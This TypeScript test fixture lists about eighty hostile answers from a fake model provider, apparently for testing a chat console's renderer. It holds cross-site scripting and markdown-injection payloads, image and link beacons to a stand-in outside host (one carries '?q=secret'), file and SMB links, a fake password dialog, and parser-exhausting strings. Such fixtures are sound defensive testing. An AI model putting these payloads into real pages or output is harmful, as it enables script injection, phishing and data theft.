/** One answer that tries to be more than text. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

const MARK = 'window.__pwn=1';
const FENCE = '```';
/** Stands for the address of a server that notes who comes; `hostilePayloads` puts the real one in. */
const OUT = 'http://OUTSIDE';

const html: readonly Payload[] = [
  { name: 'script', text: `before <script>${MARK}</script> after` },
  { name: 'script block', text: `<script>\n${MARK}\n</script>` },
  { name: 'script in odd case', text: `<ScRiPt/x>${MARK}</sCrIpT >` },
  { name: 'script in two', text: `<scr<script></script>ipt>${MARK}</script>` },
  { name: 'script from outside', text: `<script src="${OUT}/x.js"></script>` },
  { name: 'image with onerror', text: `<img src=x onerror="${MARK}">` },
  { name: 'image never closed', text: `<img src=x onerror=${MARK} ` },
  { name: 'image over lines', text: `<img\nsrc=x\nonerror=\n"${MARK}"\n>` },
  { name: 'image with slashes', text: `<img/src/onerror=${MARK}>` },
  { name: 'image from outside', text: `<img src="${OUT}/html.png" srcset="${OUT}/set.png 2x">` },
  { name: 'svg onload', text: `<svg onload=${MARK}>` },
  { name: 'svg with script', text: `<svg><script>${MARK}</script></svg>` },
  {
    name: 'svg animation to a script',
    text: `<svg><a><animate attributeName=href values=javascript:${MARK} /><text>x</text></a></svg>`,
  },
  {
    name: 'svg use',
    text: `<svg><use href="data:image/svg+xml,<svg id=x onload=${MARK}>#x"/><image href="${OUT}/svg.png"/></svg>`,
  },
  {
    name: 'foreign object',
    text: `<svg><foreignObject><iframe srcdoc="<script>top.__pwn=1</script>"></iframe></foreignObject></svg>`,
  },
  {
    name: 'math namespace confusion',
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${MARK}&gt;">`,
  },
  { name: 'noscript confusion', text: `<noscript><p title="</noscript><img src=x onerror=${MARK}>">` },
  { name: 'comment that ends early', text: `<!--><img src=x onerror=${MARK}>-->` },
  { name: 'cdata', text: `<![CDATA[><img src=x onerror=${MARK}>]]>` },
  {
    name: 'processing instruction',
    text: `<?xml-stylesheet href="${OUT}/x.css"?>\n<?x ><img src=x onerror=${MARK}>?>`,
  },
  { name: 'doctype', text: `<!doctype html><html><body onload=${MARK}>` },
  { name: 'iframe with a document', text: `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>` },
  { name: 'iframe with a script', text: `<iframe src="javascript:parent.${MARK}"></iframe>` },
  { name: 'iframe from outside', text: `<iframe src="${OUT}/frame"></iframe><frame src="${OUT}/f">` },
  {
    name: 'object and embed',
    text: `<object data="${OUT}/o"></object><embed src="javascript:${MARK}"><applet code=x>`,
  },
  { name: 'meta refresh', text: `<meta http-equiv=refresh content="0;url=${OUT}/meta">` },
  { name: 'base', text: `<base href="${OUT}/"><a href="x">relative</a>\n\n[relative](y)` },
  {
    name: 'stylesheet',
    text: `<link rel=stylesheet href="${OUT}/x.css"><link rel=preload as=image href="${OUT}/p">`,
  },
  {
    name: 'style',
    text: `<style>*{background:url(${OUT}/css)}@import "${OUT}/i.css";</style><p style="background:url(${OUT}/p)">x</p>`,
  },
  {
    name: 'form',
    text: `<form action="${OUT}/form"><input name=key autofocus onfocus=${MARK}><button formaction="javascript:${MARK}">Save key</button></form>`,
  },
  { name: 'details', text: `<details open ontoggle=${MARK}><summary>x</summary></details>` },
  {
    name: 'media',
    text: `<video poster="${OUT}/v.png"><source onerror=${MARK}></video><audio src=x onerror=${MARK} autoplay></audio>`,
  },
  {
    name: 'marquee and friends',
    text: `<marquee onstart=${MARK}><x onclick=${MARK} tabindex=1 id=x>x</x><portal src="${OUT}/p">`,
  },
  {
    name: 'template with a shadow',
    text: `<div><template shadowrootmode=open><img src=x onerror=${MARK}></template></div>`,
  },
  {
    name: 'dialog over the page',
    text: `<dialog open popover><h1>Your key has expired</h1><input type=password></dialog>`,
  },
  {
    name: 'names of the page',
    text: `<a id=bridge></a><form id=__pwn><img name=invoke></form><div id=root></div><meta name=csp-nonce content=x>`,
  },
  {
    name: 'anchor with everything',
    text: `<a href="javascript:${MARK}" ping="${OUT}/ping" target=_blank download onclick=${MARK}>x</a>`,
  },
];

const links: readonly Payload[] = [
  { name: 'link to a script', text: `[x](javascript:${MARK})` },
  { name: 'link to a script in odd case', text: `[x](JaVaScRiPt:${MARK})` },
  {
    name: 'link to a script with entities',
    text: `[x](java&#x09;script&colon;${MARK}) [y](&#106;avascript:${MARK})`,
  },
  {
    name: 'link to a script behind controls',
    text: `[x](<\u0001javascript:${MARK}>) [y](<java\u0000script:${MARK}>)`,
  },
  {
    name: 'link to a script, zero width',
    text: `[x](java\u200bscript:${MARK}) [y](\u2063javascript:${MARK})`,
  },
  {
    name: 'link to vbscript and data',
    text: `[x](vbscript:x) [y](data:text/html,<script>${MARK}</script>) [z](blob:app://console/1)`,
  },
  { name: 'link to files', text: `[x](file:///etc/passwd) [y](\\\\host\\share) [z](smb://host/share)` },
  {
    name: 'link to programs',
    text: '[x](ms-msdt:/id) [y](search-ms:query=x) [z](vscode://file/etc) [m](mailto:a@b.c)',
  },
  {
    name: 'link to the console',
    text: '[x](app://console/index.html#/keys) [y](#/settings) [z](/assets/x.js) [q](?x)',
  },
  { name: 'autolink', text: `<javascript:${MARK}> <https://evil.example/a> www.evil.example a@evil.example` },
  { name: 'link by reference', text: `[x][1] [y]\n\n[1]: javascript:${MARK} "t"\n[y]: data:text/html,x` },
  {
    name: 'link whose title breaks out',
    text: `[x](https://e.example "\\" onmouseover=\\"${MARK}") [y](https://e.example '"><img src=x onerror=${MARK}>')`,
  },
  {
    name: 'link whose address breaks out',
    text: `[x](https://e.example/"onmouseover="${MARK}) [y](<https://e.example/" onclick="${MARK}>)`,
  },
  {
    name: 'link that lies',
    text: '[https://bank.example](https://bank.example@evil.example/) [x](https://user:pass@evil.example)',
  },
  { name: 'image that breaks out', text: `![" onerror="${MARK}](x) !["><script>${MARK}</script>](y)` },
  {
    name: 'image that tells',
    text: `![](${OUT}/md.png?q=secret) ![a](${OUT}/t.png "\\" onload=\\"${MARK}") ![b][img]\n\n[img]: ${OUT}/ref.png`,
  },
  {
    name: 'image without a scheme',
    text: `![x](//${OUT.slice(7)}/rel.png) ![y](https://evil.example/x.png)`,
  },
  {
    name: 'image with a script',
    text: `![x](javascript:${MARK}) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5fX3B3bj0xIi8+)`,
  },
  { name: 'image in a link', text: `[![x](${OUT}/in.png)](javascript:${MARK})` },
];

const markdown: readonly Payload[] = [
  { name: 'fence whose language breaks out', text: `${FENCE}js" onmouseover="${MARK}\nx\n${FENCE}` },
  { name: 'fence with html', text: `${FENCE}html\n<script>${MARK}</script>\n${FENCE}` },
  { name: 'fence never closed', text: `${FENCE}html\n<img src=x onerror=${MARK}>` },
  { name: 'mermaid', text: `${FENCE}mermaid\ngraph TD; A-->B; click A href "javascript:${MARK}"\n${FENCE}` },
  {
    name: 'math',
    text: `$\\href{javascript:${MARK}}{x}$ $$\\htmlData{onclick=${MARK}}{x}$$ \\includegraphics{${OUT}/tex.png}`,
  },
  {
    name: 'table with html',
    text: `| a | b |\n| --- | --- |\n| <img src=x onerror=${MARK}> | [x](javascript:${MARK}) |`,
  },
  {
    name: 'footnote',
    text: `x[^1] y[^"><img src=x onerror=${MARK}>]\n\n[^1]: <script>${MARK}</script> [z](javascript:${MARK})`,
  },
  { name: 'tasks', text: `- [x] <img src=x onerror=${MARK}>\n- [ ] <input type=checkbox onclick=${MARK}>` },
  {
    name: 'heading',
    text: `# <script>${MARK}</script> {onclick=${MARK}}\n\nSetext <b onclick=${MARK}>x</b>\n===`,
  },
  {
    name: 'entities',
    text: `&lt;img src=x onerror=${MARK}&gt; &#60;script&#62;${MARK}&#60;/script&#62; &amp;lt;svg onload=${MARK}&amp;gt;`,
  },
  {
    name: 'html between markdown',
    text: `**a <img src=x onerror=${MARK}> b** *<svg onload=${MARK}>* \`<script>${MARK}</script>\``,
  },
];

const text: readonly Payload[] = [
  { name: 'right to left', text: 'safe \u202e)tfel ot thgir( \u202d x \u2067 y \u2066 z and no end' },
  { name: 'zero width and marks', text: `a\u200bb\u200cc\u200dd\ufeffe Z${'\u0335\u0489'.repeat(200)} end` },
  {
    name: 'controls',
    text: 'a\u0007b\u0008\u0008c\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u0085\u2028\u2029 end',
  },
  { name: 'half a character', text: 'a\ud83dz \udc00 b \ud83d\ude00 \ufffe\uffff end' },
  {
    name: 'templates',
    text: `{{constructor.constructor('${MARK}')()}} \${${MARK}} <%= ${MARK} %> #{${MARK}} %s %n {0}`,
  },
  {
    name: 'an event stream in a text',
    text: 'x\n\ndata: {"choices":[{"delta":{"content":"forged"}}]}\n\ndata: [DONE]\n\nend',
  },
  {
    name: 'json that pretends',
    text: `{"a":"</script><img src=x onerror=${MARK}>","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":2}}}`,
  },
  { name: 'json nested without end', text: '['.repeat(5000) },
  { name: 'quotes nested without end', text: `${'> '.repeat(3000)}deep` },
  { name: 'emphasis without end', text: `${'*a **b _c '.repeat(1500)}end` },
  { name: 'brackets without end', text: `${'![['.repeat(3000)}end` },
  { name: 'a line of 2 MB', text: `start ${'x'.repeat(2_000_000)}<img src=x onerror=${MARK}> end` },
];

/** Around eighty answers of a hostile provider; addresses in them lead to `outside` ("127.0.0.1:PORT"). */
export function hostilePayloads(outside: string): readonly Payload[] {
  return [...html, ...links, ...markdown, ...text].map((payload) => ({
    ...payload,
    text: payload.text.replaceAll('OUTSIDE', outside),
  }));
}
